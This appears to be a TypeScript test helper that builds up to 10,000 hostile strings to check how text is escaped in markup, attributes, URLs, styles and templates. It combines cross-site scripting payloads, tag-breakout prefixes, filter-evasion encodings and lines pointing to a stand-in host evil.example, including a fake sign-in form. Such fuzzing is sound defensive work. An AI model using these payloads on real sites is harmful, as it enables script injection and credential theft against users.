/** How many hostile texts a test tries; all of them: `LEADLINE_PAYLOADS=10000`. */
export const payloadCount = (short: number): number =>
  Number(process.env['LEADLINE_PAYLOADS'] ?? short);

const RUN = 'window.ran=true';

/** What runs where a text is taken for markup, an attribute, a URL, a script, a style or a template. */
const SEEDS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<math><mtext></p><style><img src=x onerror=${RUN}></style>`,
  `<object data="javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><button>Sign in</button></form>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>*{background:url(https://evil.example/)}</style>`,
  `javascript:${RUN}//@x.example`,
  `data:text/html,<script>${RUN}</script>`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
] as const;

/** Ways out of where a text may stand. */
const BEFORE = ['', '">', "'>", '</title>', '</textarea>', '-->', ']]>', '\0', '&quot;>', '\u202E'];

/** Ways past a filter that looks for the text as it is written. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('WINDOW.RAN=TRUE', RUN),
  (text) => text.replaceAll(' ', '\t/'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => encodeURIComponent(text),
  (text) => text.replace(/[<>"]/g, (sign) => `&#${sign.charCodeAt(0)}`),
  (text) => text.replace(/^<(\w)/, '<<$1'),
  (text) => `<!--${text}-->${text}`,
  (text) => `<x title="${text}">`,
  (text) => text.replace(/(on\w+)=/g, '$1\n='),
];

/** What stands before it: nothing, a word, a recalled name, a template's mark, half a tag. */
const LEADS = ['', 'Yes ', '{organization} ', '<!--?lit$123456789$-->', '<b'];

/** @returns a text of {@link SEEDS} in a way that is another for each of the first 10,000 indexes */
export function hostileText(index: number): string {
  const pick = <T>(list: readonly T[], step: number) =>
    list[Math.floor(index / step) % list.length]!;
  const seed = SEEDS[index % SEEDS.length]!;
  const disguise = pick(DISGUISES, SEEDS.length * BEFORE.length);
  return (
    pick(LEADS, SEEDS.length * BEFORE.length * DISGUISES.length) +
    pick(BEFORE, SEEDS.length) +
    disguise(seed)
  );
}
